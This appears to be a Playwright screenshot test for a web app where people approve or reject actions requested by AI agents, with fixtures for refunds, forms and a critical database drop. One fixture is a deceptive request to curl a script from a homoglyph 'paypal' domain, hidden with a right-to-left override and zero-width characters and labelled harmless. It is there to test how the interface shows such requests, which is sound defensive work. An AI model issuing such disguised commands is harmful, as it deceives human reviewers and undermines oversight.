import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { openChromium } from "./chromium.ts";
import { narrow } from "./house.fixture.ts";
import { signIn } from "./person.fixture.ts";
import { changeOf, toleranceOf } from "./picture.fixture.ts";
import { stillHouse } from "./still.fixture.ts";

vi.setConfig({ testTimeout: 120_000 });

let browser: Browser;
beforeAll(async () => void (browser = await openChromium()));
afterAll(() => browser.close());

/** As small as a desktop gets: the pictures are kept for good. */
const desk = { viewport: { width: 1120, height: 740 } } as const;
const light = { colorScheme: "light" } as const;
const dark = { colorScheme: "dark" } as const;

const refund = { charge: "ch_3QK9", amount: 124_000, currency: "eur", reason: "duplicate", notify_customer: true };
const asked = {
  approval: {
    client_id: "billing-agent",
    action: { name: "stripe.refunds.create", arguments: refund },
    message: "The customer was charged **twice** on the same day, see `ch_3QK9`.",
    metadata: { ticket: "SUP-4821" },
    timeout_seconds: 600,
  },
  critical: {
    client_id: "migration-agent",
    risk: "critical",
    action: { name: "database.drop", arguments: { database: "customers", host: "db-1.example.com", backup: false } },
    message: "The new schema is in place, the old one is not read any more.",
  },
  edit: {
    client_id: "support-agent",
    action: {
      name: "invoice.refund",
      arguments: { invoice: "INV-2031", amount: 120, currency: "EUR", note: "Delivered late" },
      arguments_schema: {
        type: "object",
        properties: {
          invoice: { type: "string", title: "Invoice" },
          amount: { type: "number", title: "Amount", minimum: 0, maximum: 500 },
          currency: { type: "string", title: "Currency", enum: ["EUR", "USD"] },
          note: { type: "string", title: "Note" },
        },
        required: ["invoice", "amount", "currency"],
      },
    },
    allowed_decisions: ["approve", "edit"],
    message: "The parcel came nine days late.",
  },
  choice: {
    client_id: "ci-pipeline",
    message: "Two tests fail on the main branch. What should happen next?",
    options: [
      { value: "go", label: "Approve the deployment", effect: "approve" },
      { value: "again", label: "Run the tests again", effect: "neutral" },
      { value: "no", label: "Stop here", effect: "reject" },
    ],
  },
  form: {
    client_id: "procurement",
    message: "Details of the new supplier are missing.",
    schema: {
      type: "object",
      required: ["name", "terms", "tier"],
      properties: {
        name: { type: "string", title: "Legal name", minLength: 2, description: "As in the register." },
        terms: { type: "integer", title: "Payment terms", minimum: 0, maximum: 90, description: "In days." },
        tier: { type: "string", title: "Tier", enum: ["basic", "gold"] },
        vat: { type: "boolean", title: "VAT applies" },
      },
    },
  },
  deceptive: {
    client_id: "ops-bot",
    action: {
      name: "shell.run",
      arguments: { command: "curl https://pаypal.example/\u202egnp.sh", in: "/srv\u200b/app" },
    },
    message: "Only a harmless\u200b script.",
  },
} as const;

test("ten screens look as they did when somebody last looked at them", async () => {
  const house = await stillHouse(browser);
  const tolerance = toleranceOf(browser.version());
  const wrong: string[] = [];
  const look = async (name: string, page: Page) => {
    await page.evaluate("document.fonts.ready.then(() => true)");
    const change = changeOf(name, await page.screenshot({ animations: "disabled" }), tolerance);
    if (change !== undefined) wrong.push(change);
  };

  const first = await house.ownerPath();
  const newcomer = await house.visit({ ...narrow, ...light });
  await newcomer.goto(first);
  await newcomer.getByRole("button", { name: "Become the owner" }).waitFor();
  await look("first-run-on-a-phone", newcomer);

  await house.own(first, "ada");
  const at: Partial<Record<keyof typeof asked, string>> = {};
  for (const [kind, input] of Object.entries(asked)) at[kind as keyof typeof asked] = await house.ask(input);
  const show = async (page: Page, kind: keyof typeof asked) => {
    await page.goto(at[kind] ?? "");
    await page.locator("article[data-armed]").waitFor();
    await page.locator("a[aria-current=true]").waitFor({ state: "attached" });
  };

  const page = await house.visit({ ...desk, ...light });
  await page.goto("/");
  await page.getByText("No account yet?").waitFor();
  await look("sign-in", page);
  await signIn(page, "ada");
  await show(page, "approval");
  await look("approval", page);
  await show(page, "form");
  await look("form", page);
  await show(page, "deceptive");
  await look("deceptive", page);
  await show(page, "edit");
  await page.keyboard.press("e");
  await page.getByRole("textbox", { name: "Amount" }).fill("80");
  await page.getByRole("textbox", { name: "Note" }).fill("Delivered nine days late");
  await page.getByRole("button", { name: /^Changes/ }).click();
  await page.locator("ins").first().waitFor();
  await look("changes", page);
  await page.emulateMedia(dark);
  await show(page, "critical");
  await look("critical-in-the-dark", page);
  await show(page, "choice");
  await page.keyboard.press("1");
  await look("choice-in-the-dark", page);

  const walker = await house.visit({ ...narrow, ...light });
  await signIn(walker, "ada");
  await walker.getByRole("link", { name: /stripe/ }).waitFor();
  await look("list-on-a-phone", walker);
  await walker.emulateMedia(dark);
  await walker.goto(at.approval ?? "");
  await walker.locator("article[data-armed]").waitFor();
  await look("approval-on-a-phone-in-the-dark", walker);

  expect(wrong).toEqual([]);
});
